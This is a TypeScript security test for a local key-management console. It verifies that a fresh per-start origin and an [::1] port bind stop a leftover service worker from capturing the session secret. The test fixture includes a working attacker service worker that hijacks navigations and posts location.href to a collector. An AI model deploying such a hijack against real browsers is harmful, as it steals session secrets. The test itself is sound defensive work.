// A browser origin is scheme, host and port: whoever served the console's port before it owns what the
// browser keeps for that origin. Here a page served on a port registers a service worker that answers
// every navigation with a page of its own (which reads location.hash and posts it away); the server
// stops, `byok console --port <that port>` starts, and real Chromium (the same profile) opens the
// printed URL. The console's origin is new at every start (`http://c-<16 hex>.localhost:<port>`), so
// the service worker left on 127.0.0.1:<port> never sees the navigation nor the session secret.
// Chromium reaches `*.localhost` on [::1] first, so the console holds [::1] at its port too: another
// process listening there would otherwise get the navigation (measured: it did).
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type LocalStack, startLocalStack } from '../../../src/local/stack.ts';
import { type ConsoleProcess, launchChromium, spawnConsole } from '../../helpers/console.ts';

/** The attacker's service worker: answers every navigation with a page that posts location.hash away. */
function serviceWorker(collectorPort: number): string {
  const planted =
    '<!doctype html><html><head><title>planted</title></head><body><p>planted</p><script>' +
    `fetch("http://127.0.0.1:${collectorPort}/report", { method: "POST", mode: "no-cors", body: location.href });` +
    '</script></body></html>';
  return `
    self.addEventListener('install', () => self.skipWaiting());
    self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
    self.addEventListener('fetch', (event) => {
      if (event.request.mode !== 'navigate') return;
      event.respondWith(new Response(${JSON.stringify(planted)}, { headers: { 'content-type': 'text/html' } }));
    });`;
}

const REGISTERING_PAGE =
  '<!doctype html><html><head><title>registering</title></head><body><script>' +
  "navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)" +
  ".then(() => { document.title = 'registered'; }, (error) => { document.title = 'failed ' + error; });" +
  '</script></body></html>';

function listen(server: Server, port: number, host: string): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, () => resolve((server.address() as AddressInfo).port));
  });
}

function close(server: Server): Promise<void> {
  return new Promise((resolve) => {
    server.close(() => resolve());
    server.closeAllConnections();
  });
}

describe('byok console: a fresh origin at every start', () => {
  let stack: LocalStack;
  let browser: Browser;
  let context: BrowserContext;
  let collector: Server;
  let collectorPort: number;
  const reports: string[] = [];
  const started: ConsoleProcess[] = [];

  beforeAll(async () => {
    stack = await startLocalStack({ port: 0 });
    browser = await launchChromium();
    context = await browser.newContext();
    collector = createServer((req, res) => {
      let body = '';
      req.on('data', (chunk: Buffer) => {
        body += chunk.toString();
      });
      req.on('end', () => {
        reports.push(body);
        res.end();
      });
    });
    collectorPort = await listen(collector, 0, '127.0.0.1');
  });

  afterAll(async () => {
    await Promise.all(started.map((process) => process.stop()));
    await browser?.close();
    if (collector) await close(collector);
    await stack?.stop();
  });

  it('is not answered by a service worker an earlier server on its port left in the browser', async () => {
    // Prepare: a page on a port registers the service worker, then its server goes away.
    const earlier = createServer((req, res) => {
      if (req.url === '/sw.js') {
        res.writeHead(200, { 'content-type': 'text/javascript' }).end(serviceWorker(collectorPort));
        return;
      }
      res.writeHead(200, { 'content-type': 'text/html' }).end(REGISTERING_PAGE);
    });
    const port = await listen(earlier, 0, '127.0.0.1');
    const registering = await context.newPage();
    await registering.goto(`http://127.0.0.1:${port}/`);
    await registering.waitForFunction(() => document.title !== 'registering');
    expect(await registering.title()).toBe('registered');
    await registering.close();
    await close(earlier);
    // The service worker answers that origin's navigations from now on (the server is gone).
    const check = await context.newPage();
    await check.goto(`http://127.0.0.1:${port}/#probe`);
    expect(await check.title()).toBe('planted');
    await check.close();

    // Act: the console starts on that port; the custodian opens the printed URL in the same browser.
    const consoleProcess = spawnConsole(['--endpoint', stack.url, '--port', String(port)]);
    started.push(consoleProcess);
    const url = await consoleProcess.url;
    const secret = new URLSearchParams(new URL(url).hash.slice(1)).get('session') ?? '';
    const page = await context.newPage();
    const keysAnswer = page.waitForResponse((response) => response.url().endsWith('/api/keys'));
    keysAnswer.catch(() => undefined);
    const reported = new Promise<void>((resolve) => {
      const poll = setInterval(() => {
        if (reports.some((report) => report.includes('#session='))) {
          clearInterval(poll);
          resolve();
        }
      }, 50);
      keysAnswer.finally(() => clearInterval(poll));
    });
    await page.goto(url);
    const first = await Promise.race([keysAnswer.then(() => 'console'), reported.then(() => 'planted')]);

    // Assess: the console answered (its page called its API with the session), the service worker
    // never saw the secret.
    expect(secret).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(reports.join('\n')).not.toContain(secret);
    expect(first).toBe('console');
    expect((await keysAnswer).status()).toBe(200);
    await page.getByRole('heading', { name: 'Keys', level: 1 }).waitFor();
    expect(new URL(page.url()).origin).toBe(new URL(url).origin);
    // ...because the printed URL names an origin of its own, on the same port.
    expect(url).toMatch(new RegExp(`^http://c-[0-9a-f]{16}\\.localhost:${port}/#session=${secret}$`));
    await page.close();
  });

  it('holds [::1] at its port, where Chromium reaches *.localhost first', async () => {
    // Prepare: another process listens on [::1] at the port the console is asked for.
    const squatter = createServer((_, res) => res.end('squatter'));
    const port = await listen(squatter, 0, '::1');

    // Act
    const refused = spawnConsole(['--endpoint', stack.url, '--port', String(port)]);
    started.push(refused);
    const outcome = await refused.url.then(
      (url) => ({ url, error: '' }),
      (error: Error) => ({ url: '', error: error.message }),
    );
    await close(squatter);
    const consoleProcess = spawnConsole(['--endpoint', stack.url]);
    started.push(consoleProcess);
    const consolePort = Number(new URL(await consoleProcess.url).port);
    const second = createServer();
    const taken = await listen(second, consolePort, '::1').then(
      async () => {
        await close(second);
        return 'bound';
      },
      (error: NodeJS.ErrnoException) => error.code,
    );

    // Assess: the console refuses a port whose [::1] side is taken, and holds it when it starts.
    expect(outcome.url).toBe('');
    expect(outcome.error).toContain('ConsoleListenError');
    expect(outcome.error).toContain(`[::1]:${port}`);
    expect(taken).toBe('EADDRINUSE');
  });
});
